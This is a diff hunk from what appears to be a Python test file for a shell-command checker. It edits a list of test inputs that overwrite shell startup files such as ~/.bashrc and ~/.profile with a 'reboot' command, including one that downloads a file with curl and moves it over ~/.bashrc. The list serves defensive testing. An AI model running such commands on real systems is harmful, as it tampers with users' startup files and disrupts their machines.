@@ -98,7 +98,7 @@ def test_a_copy_into_a_directory_keeps_its_name(line: str) -> None:
     [
         "echo reboot > x; cp x ~/.bashrc",
         "echo reboot > .bashrc; cp .bashrc ~",
-        "echo reboot | dd of=/root/.profile",
+        "echo reboot | dd of=~/.profile",
         "exec 3>> ~/.bashrc; echo reboot >&3",
         "exec >> ~/.bashrc; echo reboot",
         "curl -o x https://example.org/x; mv x ~/.bashrc",
